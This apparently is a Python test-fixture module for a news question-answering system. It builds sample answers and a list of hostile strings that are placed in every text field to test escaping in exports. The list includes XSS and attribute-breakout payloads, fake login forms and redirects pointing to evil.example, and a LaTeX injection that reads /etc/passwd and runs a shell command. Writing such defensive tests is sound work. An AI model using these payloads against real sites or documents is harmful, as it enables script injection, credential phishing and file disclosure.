"""Answers made by hand for exports, and texts that would be markup in one of their forms."""

from collections.abc import Sequence
from datetime import UTC, date, datetime
from typing import Any

from index.records import Article, Coverage, Passage
from qa.records import Answer, Claim, Hit, Quote, Refusal

AT = datetime.fromisoformat("2026-02-01T10:05:00-03:00")
SEEN = datetime(2026, 1, 20, tzinfo=UTC)
HOSTILE = [
    '<img src=x onerror="window.__xss=1">',
    "<script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "<svg onload=window.__xss=1><animate onbegin=window.__xss=1>",
    """<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>""",
    "</title></style></textarea><img src=x onerror=window.__xss=1>",
    '" autofocus onfocus="window.__xss=1" x="',
    "' onmouseover='window.__xss=1' x='",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><a href=x>x</a>',
    '<form action="https://evil.example/"><input type=password><button>Entrar</button></form>',
    '<link rel=stylesheet href="https://evil.example/a.css"><style>*{display:none}</style>',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/b)">x</div>',
    "<!-- --!><img src=x onerror=window.__xss=1> -->",
    "<![CDATA[<img src=x onerror=window.__xss=1>]]>",
    "[clique](javascript:window.__xss=1) ![x](https://evil.example/i.png)",
    "[1] [2][3] **[1]** [^1] [1]: https://evil.example/ 'x'",
    "<https://evil.example/> https://evil.example/ www.evil.example a@evil.example @maria",
    "# Título\n\n## Fontes\n\n- item\n1. um\n> citado\n\n---\n***\n===\n    código",
    "```\ncódigo\n```\n~~~\n`código` ``dois`` *a* _b_ **c** __d__ ~~e~~ ==f== $x^2$ :tada:",
    "a | b\n--|--\n1 | 2\n\n:--\nHello\\\nworld  \nfim",
    "&lt;img src=x onerror=window.__xss=1&gt; &#x3c;b&#62; &copy; &#0; &nbsp",
    "javascript:window.__xss=1",
    "data:text/html,<script>parent.__xss=1</script>",
    "}, note = {x}}\n@article{evil, title = {x}} \\input{/etc/passwd} \\write18{id} % $ # ^^41 {{ }",
    "a\u202egnp.exe\u200b\u2066\x00\x1b[31m\r\nb\x85\ufeff\u2028c\ud7ff\uffff\U000e0041",
    "{{window.__xss=1}} ${window.__xss=1} {%x%} {:type: book}",
]


def article(text: str = "A ponte caiu às 14h20. Ninguém ficou ferido.", **fields: Any) -> Article:
    """An article of which much is known."""
    usual = {
        "id": "ponte",
        "title": "Ponte cai em Lumiara",
        "outlet": "Gazeta de Lumiara",
        "authors": ("Ana Prado",),
        "url": "https://gazeta.example/ponte",
        "lang": "pt",
        "published": datetime.fromisoformat("2026-01-14T10:00:00-03:00"),
        "first_seen": SEEN,
        "indexed": SEEN,
    }
    return Article(**(usual | fields), text=text)


def hit(one: Article, copies: Sequence[Article] = ()) -> Hit:
    """An article found, whole, with others that say the same."""
    passages = [Passage(article=each, start=0, end=len(each.text), row=row) for row, each in enumerate([one, *copies])]
    return Hit(passage=passages[0], score=1.0, dense_place=1, lexical_place=1, cosine=0.5, bm25=1.0, copies=tuple(passages[1:]))


def quoted(one: Article, words: str = "") -> Quote:
    """Some words of an article, or all of it."""
    start = one.text.index(words)
    return Quote(article=one, start=start, end=start + len(words or one.text), score=0.9)


def answered(*quotes: Quote, claims: Sequence[Claim] = (), copies: Sequence[Article] = (), **fields: Any) -> Answer:
    """An answer of whole quotes, one a sentence, when no claims are given."""
    usual = {"question": "Quando caiu a ponte?", "searched": "Quando caiu a ponte?", "lang": "pt", "as_of": date(2026, 1, 20), "confidence": 0.9}
    usual |= {"coverage": Coverage(articles=1234, outlets=1, first=date(2026, 1, 1), last=date(2026, 1, 20)), "fingerprint": "ab" * 32}
    own = [Claim(text=quote.text, quotes=(n,), verbatim=True) for n, quote in enumerate(quotes)]
    hits = tuple(hit(one, copies) for one in {quote.article.key: quote.article for quote in quotes}.values())
    return Answer(**({"hits": hits, "quotes": quotes, "claims": tuple(claims or own)} | usual | fields))


def refused(code: Refusal, **fields: Any) -> Answer:
    """A refusal."""
    return answered(refusal=code, **({"reason": "Não.", "confidence": 0.0} | fields))


def attacked(text: str) -> Answer:
    """An answer in which a text stands wherever text of others can stand."""
    body = f"A ponte caiu {text} às 14h20. Fim."
    fields = {
        "title": f"T {text}",
        "outlet": f"O {text}",
        "authors": (f"A {text}", text),
        "url": text,
        "section": text,
        "correction": f"C {text}",
        "rights": f"R {text}",
        "lang": "pt",
    }
    one = article(body, id=f"i {text}"[:500], **fields)
    copy = article(body, id=f"c {text}"[:500], **fields)
    quote = quoted(one, body.removesuffix(" Fim."))
    told = {"question": f"Q {text}", "searched": f"S {text}", "fingerprint": text, "filter": {"outlets": [text], "sections": [text]}}
    return answered(quote, copies=[copy], origins={one.id: copy.id}, **told)
